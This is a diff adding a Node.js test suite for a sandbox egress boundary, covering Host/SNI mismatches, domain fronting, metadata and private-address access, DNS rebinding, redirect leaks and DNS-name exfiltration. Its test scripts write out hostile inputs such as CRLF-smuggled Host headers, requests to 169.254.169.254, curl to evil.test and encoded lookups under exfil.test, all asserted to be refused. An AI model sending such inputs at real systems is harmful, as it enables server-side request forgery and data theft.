@@ -1,0 +1,192 @@
+// Invariants 5 and 7 at the boundary: a sandbox reaches the host that a policy names, at addresses that were checked, and
+// whatever else it says about where it wants to go is refused.
+import assert from 'node:assert/strict';
+import os from 'node:os';
+import { test } from 'node:test';
+import { SECRET, authority, boundary, credential, nameServer, origin, rawOrigin, rule } from '../lib/egress.mjs';
+
+const ca = authority();
+const tls = ca.issue(['api.test', 'other.test', 'a.wild.test']);
+const names = { 'api.test': '127.0.0.1', 'other.test': '127.0.0.1' };
+const dns = await nameServer(names);
+const behind = (o, more = {}) => boundary({ ca, dns, allow: [rule('api.test', o.port), rule('other.test', o.port)], credentials: [credential(`api.test:${o.port}`)], ...more });
+
+test('A4 SNI, CONNECT, Host and :authority that do not agree are answered 421', async () => {
+  const o = await origin({ tls, h2: true });
+  const b = behind(o);
+  const r = await b.py(`
+p, t = P['port'], 'Authorization: Bearer ' + TOKEN + '\\r\\nConnection: close\\r\\n\\r\\n'
+def ask(host): return 'GET / HTTP/1.1\\r\\nHost: %s\\r\\n%s' % (host, t)
+out['sni'] = talk('api.test', p, ask('api.test:%d' % p), sni='other.test', verify=False)
+out['host'] = talk('api.test', p, ask('other.test:%d' % p))
+out['port'] = talk('api.test', p, ask('api.test:1'))
+out['absolute'] = talk('api.test', p, 'GET https://other.test:%d/ HTTP/1.1\\r\\nHost: api.test:%d\\r\\n%s' % (p, p, t))
+s, out['connect_head'] = connect('other.test:%d' % p)
+s = secure(s, 'api.test', verify=False)
+say(s, ask('api.test:%d' % p))
+out['connect'] = hear(s)
+out['fine'] = talk('api.test', p, ask('api.test:%d' % p))
+h = H2('api.test', p)
+out['authority'] = h.ask(1, request('other.test:%d' % p, more=[('authorization', 'Bearer ' + TOKEN)]))
+out['beside'] = h.ask(3, request('api.test:%d' % p, more=[('host', 'other.test'), ('authorization', 'Bearer ' + TOKEN)]))
+`, { port: o.port });
+  for (const k of ['sni', 'host', 'port', 'connect']) assert.match(r[k], /^HTTP\/1.1 421 /, `${k}: ${r[k]}`);
+  assert.match(r.absolute, /^HTTP\/1.1 4(00|21) /);
+  assert.equal(r.authority.status, 421);
+  assert.ok(r.beside.rst || r.beside.goaway || [400, 421].includes(r.beside.status), JSON.stringify(r.beside));
+  assert.match(r.fine, /^HTTP\/1.1 200 /);
+  assert.equal(o.seen.length, 1, 'only the request whose places agree went out');
+  assert.ok(b.records({ reason: 'claims_disagree' }).length >= 5);
+});
+
+test('A24 Host steering with a matching SNI: Host twice, with a user, a path, a number or nothing', async () => {
+  const o = await origin({ tls });
+  const b = behind(o);
+  const hosts = ['other.test', 'api.test:PORT\r\nHost: other.test', 'other.test\r\nHost: api.test:PORT', 'api.test:PORT@other.test', 'user@api.test:PORT', 'api.test:PORT/x', '127.0.0.1:PORT', '2130706433:PORT', 'api.test.evil.test:PORT', '', 'api.test:PORT, other.test', 'api.test:PORT\r\nX-A: 1\r\n Host: other.test', 'api.test%00.other.test'].map((h) => h.replaceAll('PORT', o.port));
+  const r = await b.py(`
+out['all'] = [talk('api.test', P['port'], 'GET / HTTP/1.1\\r\\nHost: %s\\r\\nAuthorization: Bearer %s\\r\\nConnection: close\\r\\n\\r\\n' % (h, TOKEN)) for h in P['hosts']]
+out['forwarded'] = talk('api.test', P['port'], 'GET / HTTP/1.1\\r\\nHost: api.test:%d\\r\\nX-Forwarded-Host: other.test\\r\\nConnection: close\\r\\n\\r\\n' % P['port'])
+`, { port: o.port, hosts });
+  r.all.forEach((a, i) => assert.match(a, /^HTTP\/1.1 4(00|21) /, `${JSON.stringify(hosts[i])}: ${a}`));
+  assert.match(r.forwarded, /^HTTP\/1.1 200 /, 'to whom that matters is the origin’s business');
+  assert.equal(o.seen.length, 1);
+});
+
+test('A25 domain fronting over a shared address: a host of the same address is another host', async () => {
+  const o = await origin({ tls });
+  const b = boundary({ ca, dns, allow: [rule('api.test', o.port)], credentials: [credential(`api.test:${o.port}`)] });
+  const out = await b.ok(`p=${o.port}; for h in other.test evil.test; do curl -sS -o /dev/null -w '%{http_code}\\n' https://api.test:$p/ -H "Host: $h:$p"; curl -sSk -o /dev/null -w '%{http_code}\\n' --connect-to $h:$p:api.test:$p https://$h:$p/; done`);
+  assert.deepEqual(out.trim().split('\n'), ['421', '421', '421', '421']);
+  assert.equal(o.seen.length, 0);
+});
+
+test('A4 without a server name, or with one that is hidden, a connection that needs looking into is refused', async () => {
+  const o = await origin({ tls });
+  const b = behind(o);
+  const r = await b.py(`
+s = dial('api.test', P['port'], tls=False)
+c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
+try:
+    t = c.wrap_socket(s)
+    say(t, 'GET / HTTP/1.1\\r\\nHost: other.test:%d\\r\\nAuthorization: Bearer %s\\r\\nConnection: close\\r\\n\\r\\n' % (P['port'], TOKEN))
+    out['r'] = hear(t)
+except OSError as e:
+    out['r'] = '<' + type(e).__name__ + '>'
+out['ssh'] = talk('api.test', 443, 'SSH-2.0-x\\r\\n', tls=False)
+out['noise'] = talk('api.test', P['port'], '\\x16\\x03\\x01\\x00\\x05hello', tls=False)
+`, { port: o.port });
+  assert.doesNotMatch(r.r, /HTTP\/1.1 200/);
+  assert.match(r.ssh, /^<ConnectionResetError>$|^$/);
+  assert.doesNotMatch(r.noise, /200/);
+  assert.equal(o.seen.length, 0);
+});
+
+const forbidden = {
+  'loop.test': '127.0.0.1', 'loop6.test': '::1', 'meta.test': '169.254.169.254', 'meta6.test': 'fd00:ec2::254', 'ali.test': '100.100.100.200', 'azure.test': '168.63.129.16',
+  'ten.test': '10.0.0.1', 'rfc172.test': '172.16.0.1', 'rfc192.test': '192.168.0.1', 'cgnat.test': '100.64.0.1', 'zero.test': '0.0.0.0', 'zero6.test': '::', 'multi.test': '224.0.0.1', 'broad.test': '255.255.255.255',
+  'mapped.test': '::ffff:7f00:1', 'mappedmeta.test': '::ffff:a9fe:a9fe', 'nat64.test': '64:ff9b::7f00:1', 'nat64meta.test': '64:ff9b::a9fe:a9fe', 'sixto4.test': '2002:7f00:1::', 'link6.test': 'fe80::1', 'ula.test': 'fd12::1', 'inside.test': '198.18.0.10',
+};
+const own = Object.values(os.networkInterfaces()).flat().find((i) => i.family === 'IPv4' && !i.internal)?.address;
+if (own) forbidden['own.test'] = own;
+Object.assign(names, forbidden);
+
+test('A6 metadata, loopback, private and this machine’s own addresses are connected to under no wildcard', async () => {
+  const b = boundary({ ca, dns, allow: [{ host: '*', limits: { names: '1000/h' } }], policy: { private_networks: 'allow' } });
+  const all = Object.keys(forbidden);
+  const out = await b.ok(`for h in ${all.join(' ')}; do curl -sSi -m 10 http://$h/ | tr -d '\\r' | tr '\\n' ' '; echo; done`);
+  out.trim().split('\n').forEach((l, i) => assert.match(l, /^HTTP\/1.1 (403|502) .*destination_ip_prohibited/, `${all[i]}: ${l}`));
+  assert.equal(b.records({ reason: 'address_denied' }).length, all.length);
+  const raw = await b.ok(`for a in 169.254.169.254 127.0.0.1:1 2130706433 0x7f.1 [::1]:1 [::ffff:169.254.169.254]; do curl -sS -m 10 -x http://127.0.0.1:3128 -o /dev/null -w '%{http_code}\\n' http://$a/; curl -sSk -m 10 -p -x http://127.0.0.1:3128 -o /dev/null -w '%{http_connect}\\n' https://$a/; done; true`);
+  assert.ok(raw.trim().split('\n').every((c) => /^(4\d\d|502|000)$/.test(c)), raw);
+});
+
+test('A5 DNS that changes its answer: the address that was checked is connected to, and all answers are checked', async () => {
+  const o = await origin({ tls, host: '127.0.0.1' }), evil = await origin({ tls, host: '127.0.0.2', port: o.port });
+  names['api.test'] = (n) => (n % 2 ? '127.0.0.1' : '127.0.0.2');
+  names['other.test'] = ['127.0.0.2', '127.0.0.1'];
+  const only = { addresses: ['127.0.0.1/32'] };
+  const b = boundary({ ca, dns, allow: [rule('api.test', o.port, only), rule('other.test', o.port, only)], credentials: [credential(`api.test:${o.port}`)] });
+  const before = dns.asked.length;
+  const out = await b.ok(`for i in 1 2 3 4; do curl -sS -o /dev/null -w '%{http_code}\\n' https://api.test:${o.port}/ -H "Authorization: Bearer $TOKEN"; done; curl -sSk -o /dev/null -w '%{http_code}\\n' https://other.test:${o.port}/`);
+  names['api.test'] = names['other.test'] = '127.0.0.1';
+  assert.ok(out.trim().split('\n').every((c) => ['200', '403', '502'].includes(c)), out);
+  assert.ok(o.seen.length > 0);
+  assert.equal(evil.seen.length, 0, 'the other address was never connected to');
+  assert.equal(evil.sockets.size, 0);
+  assert.ok(dns.asked.length - before <= 12, 'one question a family for each dial');
+});
+
+test('A7 a redirect is the client’s to follow, and is judged from zero', async () => {
+  const evil = await origin({ tls });
+  const o = await origin({ tls, handler: (req, res) => res.writeHead(307, { location: `https://other.test:${evil.port}/` }).end() });
+  const b = boundary({ ca, dns, allow: [rule('api.test', o.port), rule('other.test', evil.port, { inspect: true })], credentials: [credential(`api.test:${o.port}`)] });
+  const out = await b.ok(`curl -sS -o /dev/null -w '%{http_code}\\n' https://api.test:${o.port}/ -H "Authorization: Bearer $TOKEN"; curl -sSL --location-trusted https://api.test:${o.port}/ -H "Authorization: Bearer $TOKEN"`);
+  assert.match(out, /^307\n/);
+  assert.match(out, /leak_attempt/);
+  assert.equal(evil.seen.length, 0);
+  assert.equal(b.records({ reason: 'leak_attempt' }).length, 1);
+});
+
+test('A10 no UDP, no ICMP, no raw sockets, and no name asked outside', async () => {
+  const before = dns.asked.length;
+  const b = boundary({ ca, dns, allow: [rule('api.test', 443)] });
+  const r = await b.py(`
+def attempt(f):
+    try: return repr(f())
+    except OSError as e: return 'refused'
+def udp(a, family=socket.AF_INET):
+    s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(0.5); s.sendto(b'x' * 30, a); return s.recv(100)
+out['udp'] = [attempt(lambda: udp(('8.8.8.8', 53))), attempt(lambda: udp(('198.18.0.10', 443))), attempt(lambda: udp(('127.0.0.1', 9)))]
+out['raw'] = [attempt(lambda: socket.socket(f, t, p)) for f, t, p in ((socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_INET, socket.SOCK_RAW, 255), (socket.AF_INET6, socket.SOCK_RAW, 58), (17, socket.SOCK_RAW, 0x300), (40, socket.SOCK_STREAM, 0))]
+def ping():
+    # The kernel may give out sockets that can do nothing but echo requests: none gets out of the sandbox.
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1); s.settimeout(0.5); s.sendto(b'\\x08' + b'\\0' * 20, ('8.8.8.8', 0)); return s.recv(100)
+out['ping'] = attempt(ping)
+out['far'] = [attempt(lambda: socket.create_connection(a, 2)) for a in (('8.8.8.8', 443), ('2001:4860:4860::8888', 443), ('169.254.169.254', 80), ('10.0.0.1', 80))]
+out['names'] = [attempt(lambda: socket.getaddrinfo(n, 443)) and 1 for n in ('c2VjcmV0.exfil.test', 'a.b.c.d.exfil.test')]
+`);
+  assert.deepEqual(r.udp, Array(3).fill('refused'));
+  assert.deepEqual(r.raw, Array(5).fill('refused'));
+  assert.equal(r.ping, 'refused');
+  assert.deepEqual(r.far, Array(4).fill('refused'));
+  assert.equal(dns.asked.length, before, 'nobody outside was asked');
+});
+
+test('A11, A12 another process of the sandbox is the same sandbox, and no token opens the boundary', async () => {
+  const o = await origin({ tls });
+  const b = behind(o);
+  const out = (await b.sh(`T=$TOKEN; env -i PATH="$PATH" sh -c 'for h in x:p "$0:$0"; do curl -sS -x http://$h@127.0.0.1:3128 -o /dev/null -w "%{http_connect}\\n" https://evil.test/; done' "$T"; env | grep -i proxy`)).out;
+  assert.doesNotMatch(out, /proxy=.*@/i, 'no login in the environment: the socket is the identity');
+  assert.equal(out.match(/403/g)?.length, 2, out);
+  assert.equal(o.seen.length, 0);
+});
+
+test('A14 start order: the first thing that a program does is a connection', async () => {
+  const o = await origin({ tls });
+  const b = behind(o);
+  for (let i = 0; i < 3; i++) {
+    const { run, BIN } = await import('../lib/own.mjs');
+    const r = await run(BIN, [...b.argv(), '--', 'curl', '-sS', '-o', '/dev/null', '-w', '%{http_code}', `https://${i ? 'api' : 'evil'}.test:${i ? o.port : 443}/`]);
+    assert.equal(r.out, i ? '200' : '403', r.err);
+  }
+});
+
+test('A17 what is passed through keeps its own TLS, and a placeholder in it is worthless', async () => {
+  const got = [];
+  const o = await rawOrigin((c) => c.on('data', (d) => { got.push(d); c.end('raw'); }));
+  const b = boundary({ ca, dns, allow: [rule('api.test', o.port)] });
+  const r = await b.py(`out['r'] = talk('api.test', P['port'], b'\\x00\\x01hello', tls=False)`, { port: o.port });
+  assert.equal(r.r, 'raw');
+  assert.equal(Buffer.concat(got).toString('latin1'), '\x00\x01hello');
+  assert.ok(!Buffer.concat(got).includes(SECRET));
+});
+
+test('A27 a wildcard name as a channel: labels, bytes and names are limited, and nothing is asked outside for free', async () => {
+  const o = await origin({ tls });
+  for (let i = 0; i < 9; i++) names[`n${i}.wild.test`] = '127.0.0.1';
+  const b = boundary({ ca, dns, allow: [rule('*.wild.test', o.port, { limits: { labels: 2, bytes: 20, names: '4/h' } })] });
+  const before = dns.asked.length;
+  const out = await b.ok(`getent ahostsv4 ${'x'.repeat(40)}.wild.test || echo long; getent ahostsv4 a.b.c.wild.test || echo deep; n=0; for i in 0 1 2 3 4 5 6 7 8; do getent ahostsv4 n$i.wild.test >/dev/null && n=$((n+1)); done; echo $n`);
+  assert.deepEqual(out.trim().split('\n'), ['long', 'deep', '4']);
+  assert.equal(dns.asked.length, before);
+});
